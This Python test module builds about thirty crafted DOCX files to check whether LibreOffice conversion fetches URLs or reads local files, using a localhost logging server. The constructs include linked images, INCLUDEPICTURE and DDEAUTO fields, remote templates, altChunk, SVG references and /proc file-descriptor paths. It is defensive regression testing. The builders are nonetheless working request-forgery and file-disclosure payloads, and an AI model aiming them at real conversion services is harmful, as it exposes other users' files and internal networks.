"""DOCX files built to make LibreOffice reach the network or read local files (issue 10, item 1).

Every construct the attack used, and the others OOXML has for loading something: each builder
takes a clean python-docx document and edits its XML and relationships the way Word (or an
attacker) would write them. `Targets` says where each construct points: a URL on the test's
logging HTTP server, local files holding unique markers, and a PDF the test process keeps open
(reached as /proc/<pid>/fd/<n>, like another customer's document being converted).

Each document carries its own text (`own_text`), so a test can tell a document that was converted
with its content intact from one that merely failed.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.factories import make_docx

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPE_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@dataclass(frozen=True)
class Targets:
    """Where the constructs point; `url(name)` is a path of its own on the logging server per construct."""

    base_url: str
    secret_svg: Path
    secret_docx: Path
    secret_text: Path
    secret_html: Path
    open_pdf_fd_path: str  # /proc/<pid>/fd/<n> of a PDF the test process holds open

    def url(self, name: str) -> str:
        return f"{self.base_url}/{name}.svg"


def own_text(name: str) -> str:
    return f"Own text of the {name} document."


# -- package editing --------------------------------------------------------------------------------


def _rel(rel_id: str, kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def edit_package(
    src: Path,
    dst: Path,
    *,
    body: str = "",
    rels: tuple[str, ...] = (),
    parts: dict[str, bytes | str] | None = None,
    content_types: str = "",
    edits: dict[str, Callable[[bytes], bytes]] | None = None,
) -> Path:
    """A copy of `src` with `body` before the final sectPr, relationships added to the document's,
    extra parts, extra [Content_Types].xml entries, and per-part edits."""
    edits = dict(edits or {})
    with zipfile.ZipFile(src) as original, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
        names = set(original.namelist())
        for info in original.infolist():
            data = original.read(info)
            if info.filename == "word/document.xml" and body:
                data = data.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
            elif info.filename == "word/_rels/document.xml.rels" and rels:
                data = data.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")
            elif info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types.encode() + b"</Types>")
            if info.filename in edits:
                data = edits.pop(info.filename)(data)
            out.writestr(info.filename, data)
        for name, edit in edits.items():  # parts that did not exist yet
            if name not in names:
                out.writestr(name, edit(b""))
        for name, content in (parts or {}).items():
            out.writestr(name, content)
    return dst


def _picture(blip_attributes: str) -> str:
    """An inline DrawingML picture, as Word writes it; `blip_attributes` says where the image is."""
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="1905000" cy="476250"/><wp:docPr id="7" name="Picture"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="7" name="Picture"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {blip_attributes}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1905000" cy="476250"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    )


def _vml_picture(imagedata_attributes: str) -> str:
    return (
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
        f' style="width:200pt;height:50pt"><v:imagedata {imagedata_attributes}/></v:shape></w:pict></w:r>'
    )


def _complex_field(instruction: str, result: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{result}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _simple_field(instruction: str, result: str) -> str:
    escaped = instruction.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:p><w:fldSimple w:instr="{escaped}">{result}</w:fldSimple></w:p>'


def _svg_with_references(targets: Targets, name: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100">'
        f'<image x="0" y="0" width="300" height="100" xlink:href="{targets.url(name)}"/>'
        f'<image x="0" y="0" width="300" height="100" xlink:href="{targets.secret_svg.as_uri()}"/></svg>'
    )


def _relative_to_anywhere(path: Path) -> str:
    """A relative reference that climbs to the root from wherever the document is converted."""
    return "../" * 40 + str(path).lstrip("/")


def _with_header_reference(rel_id: str) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        return re.sub(
            rb"<w:sectPr([^>]*)>",
            rb'<w:sectPr\1><w:headerReference w:type="default" r:id="' + rel_id.encode() + rb'"/>',
            data,
            count=1,
        )

    return edit


def _replace_relationship_target(kind: str, target: str) -> Callable[[bytes], bytes]:
    """Point the document's relationship of type `kind` (styles, fontTable, …) outside the package."""

    def edit(data: bytes) -> bytes:
        pattern = rb'(<Relationship [^>]*Type="[^"]*/' + kind.encode() + rb'"[^>]*?)Target="[^"]*"'
        edited, count = re.subn(pattern, rb'\1Target="' + target.encode() + rb'" TargetMode="External"', data)
        assert count == 1, f"no {kind} relationship to redirect"
        return edited

    return edit


def _settings_with(element: str, rels: str) -> dict[str, Callable[[bytes], bytes]]:
    def settings(data: bytes) -> bytes:
        return re.sub(rb"(<w:settings[^>]*>)", rb"\1" + element.encode(), data, count=1)

    def settings_rels(_: bytes) -> bytes:
        return (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{rels}</Relationships>"
        ).encode()

    return {"word/settings.xml": settings, "word/_rels/settings.xml.rels": settings_rels}


def _web_settings_with_frameset(target: str) -> dict[str, Callable[[bytes], bytes]]:
    frameset = (
        '<w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rIdFrame"/>'
        "<w:linkedToFile/></w:frame></w:frameset>"
    )

    def web_settings(data: bytes) -> bytes:
        if b"xmlns:r=" not in data.split(b">", 2)[1]:
            data = re.sub(rb"(<w:webSettings[^>]*?)>", rb'\1 xmlns:r="' + R.encode() + rb'">', data, count=1)
        return re.sub(rb"(<w:webSettings[^>]*>)", rb"\1" + frameset.encode(), data, count=1)

    def web_rels(_: bytes) -> bytes:
        return (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{_rel('rIdFrame', 'frame', target)}</Relationships>"
        ).encode()

    return {"word/webSettings.xml": web_settings, "word/_rels/webSettings.xml.rels": web_rels}


# -- the constructs -------------------------------------------------------------------------------------


def build(name: str, path: Path, targets: Targets) -> Path:
    """The document of construct `name` at `path` (see CONSTRUCTS)."""
    base = make_docx(path.with_name(path.stem + "-base.docx"), [own_text(name)])
    url = targets.url(name)
    secret = targets.secret_svg.as_uri()
    proc = "file://" + targets.open_pdf_fd_path
    blip = _picture('r:link="rIdX"')
    embedded_svg = _picture('r:embed="rIdSvg"')
    vml_src, vml_ohref, vml_rid = (
        _vml_picture(f'src="{url}"'),
        _vml_picture(f'o:href="{secret}"'),
        _vml_picture('r:id="rIdV"'),
    )
    builders: dict[str, Callable[[], Path]] = {
        # The attack's picture: a linked blip whose relationship is external.
        "linked-blip-http": lambda: edit_package(
            base, path, body=f"<w:p>{blip}</w:p>", rels=(_rel("rIdX", "image", url),)
        ),
        "linked-blip-file-svg": lambda: edit_package(
            base, path, body=f"<w:p>{blip}</w:p>", rels=(_rel("rIdX", "image", secret),)
        ),
        "linked-blip-relative": lambda: edit_package(
            base,
            path,
            body=f"<w:p>{blip}</w:p>",
            rels=(_rel("rIdX", "image", _relative_to_anywhere(targets.secret_svg)),),
        ),
        "linked-blip-proc-fd": lambda: edit_package(
            base, path, body=f"<w:p>{blip}</w:p>", rels=(_rel("rIdX", "image", proc),)
        ),
        # INCLUDEPICTURE as Word writes it with \d: the result is a picture linked to the same URL.
        "includepicture": lambda: edit_package(
            base,
            path,
            body=_complex_field(f'INCLUDEPICTURE "{url}" \\d \\* MERGEFORMATINET', blip),
            rels=(_rel("rIdX", "image", url),),
        ),
        "includepicture-simple": lambda: edit_package(
            base, path, body=_simple_field(f'INCLUDEPICTURE "{url}" \\d', "<w:r><w:t>picture</w:t></w:r>")
        ),
        "includepicture-file": lambda: edit_package(
            base, path, body=_complex_field(f'INCLUDEPICTURE "{secret}" \\d', "<w:r><w:t>picture</w:t></w:r>")
        ),
        "includetext": lambda: edit_package(
            base, path, body=_complex_field(f'INCLUDETEXT "{targets.secret_docx}"', "<w:r><w:t>x</w:t></w:r>")
        ),
        "includetext-http": lambda: edit_package(
            base, path, body=_complex_field(f'INCLUDETEXT "{url}"', "<w:r><w:t>x</w:t></w:r>")
        ),
        "link-field": lambda: edit_package(
            base,
            path,
            body=_complex_field(
                f'LINK Word.Document.12 "{targets.secret_docx}" "" \\a \\t', "<w:r><w:t>x</w:t></w:r>"
            ),
        ),
        "dde-field": lambda: edit_package(
            base,
            path,
            body=_complex_field(f'DDE soffice "{targets.secret_text}" "all"', "<w:r><w:t>x</w:t></w:r>"),
        ),
        "ddeauto-field": lambda: edit_package(
            base,
            path,
            body=_complex_field(f'DDEAUTO soffice "{targets.secret_text}" "all"', "<w:r><w:t>x</w:t></w:r>"),
        ),
        "import-field": lambda: edit_package(
            base, path, body=_complex_field(f'IMPORT "{url}"', "<w:r><w:t>x</w:t></w:r>")
        ),
        # The keyword spelled by two instruction pieces, and hidden in plain text runs.
        "split-field-code": lambda: edit_package(
            base,
            path,
            body=(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
                f'<w:r><w:instrText xml:space="preserve">PICTURE "{url}" \\d</w:instrText></w:r>'
                f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{blip}'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            rels=(_rel("rIdX", "image", url),),
        ),
        "ole-link": lambda: edit_package(
            base,
            path,
            body=(
                '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440">'
                '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="_x0000_i1025" style="width:72pt;height:72pt">'
                '<v:imagedata r:id="rIdPreview"/></v:shape>'
                '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12"'
                ' ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdOle" UpdateMode="Always">'
                "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>"
            ),
            rels=(
                _rel("rIdOle", "oleObject", targets.secret_docx.as_uri()),
                _rel("rIdPreview", "image", url),
            ),
        ),
        "remote-template": lambda: edit_package(
            base,
            path,
            edits=_settings_with(
                '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>', _rel("rIdT", "attachedTemplate", url)
            ),
        ),
        "altchunk-docx": lambda: edit_package(
            base,
            path,
            body='<w:altChunk r:id="rIdChunk"/>',
            rels=(_rel("rIdChunk", "aFChunk", "/word/chunk.docx", external=False),),
            parts={"word/chunk.docx": _chunk_document(path, targets, name).read_bytes()},
            content_types=f'<Override PartName="/word/chunk.docx" ContentType="{CONTENT_TYPE_MAIN}"/>',
        ),
        "altchunk-html": lambda: edit_package(
            base,
            path,
            body='<w:altChunk r:id="rIdChunk"/>',
            rels=(_rel("rIdChunk", "aFChunk", "/word/chunk.html", external=False),),
            parts={
                "word/chunk.html": f'<html><body><p>chunk</p><img src="{url}"><img src="{secret}"></body></html>'
            },
            content_types='<Default Extension="html" ContentType="text/html"/>',
        ),
        "subdoc": lambda: edit_package(
            base,
            path,
            body='<w:p><w:subDoc r:id="rIdSub"/></w:p>',
            rels=(_rel("rIdSub", "subDocument", targets.secret_docx.as_uri()),),
        ),
        "external-header": lambda: edit_package(
            base,
            path,
            rels=(_rel("rIdH", "header", url),),
            edits={"word/document.xml": _with_header_reference("rIdH")},
        ),
        "external-styles": lambda: edit_package(
            base, path, edits={"word/_rels/document.xml.rels": _replace_relationship_target("styles", url)}
        ),
        "external-fonts": lambda: edit_package(
            base, path, edits={"word/_rels/document.xml.rels": _replace_relationship_target("fontTable", url)}
        ),
        "external-settings": lambda: edit_package(
            base, path, edits={"word/_rels/document.xml.rels": _replace_relationship_target("settings", url)}
        ),
        "vml-imagedata-src": lambda: edit_package(base, path, body=f"<w:p>{vml_src}</w:p>"),
        "vml-imagedata-ohref": lambda: edit_package(base, path, body=f"<w:p>{vml_ohref}</w:p>"),
        "vml-imagedata-rid": lambda: edit_package(
            base, path, body=f"<w:p>{vml_rid}</w:p>", rels=(_rel("rIdV", "image", url),)
        ),
        "svg-external-refs": lambda: edit_package(
            base,
            path,
            body=f"<w:p>{embedded_svg}</w:p>",
            rels=(_rel("rIdSvg", "image", "media/picture.svg", external=False),),
            parts={"word/media/picture.svg": _svg_with_references(targets, name)},
            content_types='<Default Extension="svg" ContentType="image/svg+xml"/>',
        ),
        "svg-named-png": lambda: edit_package(
            base,
            path,
            body=f"<w:p>{embedded_svg}</w:p>",
            rels=(_rel("rIdSvg", "image", "media/picture.png", external=False),),
            parts={"word/media/picture.png": _svg_with_references(targets, name)},
            content_types='<Default Extension="png" ContentType="image/png"/>',
        ),
        "frameset": lambda: edit_package(base, path, edits=_web_settings_with_frameset(url)),
        "hyperlink-to-file": lambda: edit_package(
            base,
            path,
            body=(
                '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>linked words</w:t></w:r></w:hyperlink></w:p>'
                + _complex_field(f'HYPERLINK "{targets.secret_docx}"', "<w:r><w:t>field link</w:t></w:r>")
            ),
            rels=(_rel("rIdLink", "hyperlink", targets.secret_docx.as_uri()),),
        ),
    }
    return builders[name]()


def _chunk_document(path: Path, targets: Targets, name: str) -> Path:
    """The Word document inside an altChunk: its own text, and a picture linked to the server."""
    inner = make_docx(path.with_name(path.stem + "-chunk-base.docx"), [f"Chunk text of the {name} document."])
    linked = _picture('r:link="rIdX"')
    return edit_package(
        inner,
        path.with_name(path.stem + "-chunk.docx"),
        body=f"<w:p>{linked}</w:p>",
        rels=(_rel("rIdX", "image", targets.url(name + "-inner")),),
    )


#: Every construct; the attack found the first five (and the SVG ones) on LibreOffice 7.4.
CONSTRUCTS = (
    "linked-blip-http",
    "linked-blip-file-svg",
    "linked-blip-relative",
    "linked-blip-proc-fd",
    "includepicture",
    "includepicture-simple",
    "includepicture-file",
    "includetext",
    "includetext-http",
    "link-field",
    "dde-field",
    "ddeauto-field",
    "import-field",
    "split-field-code",
    "ole-link",
    "remote-template",
    "altchunk-docx",
    "altchunk-html",
    "subdoc",
    "external-header",
    "external-styles",
    "external-fonts",
    "external-settings",
    "vml-imagedata-src",
    "vml-imagedata-ohref",
    "vml-imagedata-rid",
    "svg-external-refs",
    "svg-named-png",
    "frameset",
    "hyperlink-to-file",
)


# -- the logging server ---------------------------------------------------------------------------------


class LoggingServer:
    """A real HTTP server on 127.0.0.1 that logs every connection and request, whatever the method.

    It answers every request with an SVG whose text is `marker`, so a fetched picture would bring
    the marker back into the parsed text.
    """

    def __init__(self, marker: str) -> None:
        self.marker = marker
        self.requests: list[tuple[str, str]] = []
        self.connections: list[tuple[str, int]] = []

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    def requests_for(self, name: str) -> list[tuple[str, str]]:
        return [request for request in self.requests if request[1].lstrip("/").startswith(name)]

    def __enter__(self) -> LoggingServer:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        requests, connections = self.requests, self.connections
        body = (
            '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="60">'
            f'<text x="0" y="30" font-size="20">{self.marker}</text></svg>'
        ).encode()

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                requests.append((self.command, self.path))
                self.send_response(200)
                self.send_header("Content-Type", "image/svg+xml")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            def __getattr__(self, name: str) -> Callable[[], None]:
                if name.startswith("do_"):  # GET, OPTIONS, PROPFIND, HEAD, … all logged alike
                    return self._answer
                raise AttributeError(name)

            def log_message(self, format: str, *args: object) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request: object, client_address: tuple[str, int]) -> bool:  # type: ignore[override]
                connections.append(client_address)
                return True

        self._server = Server(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True
        )
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=10)
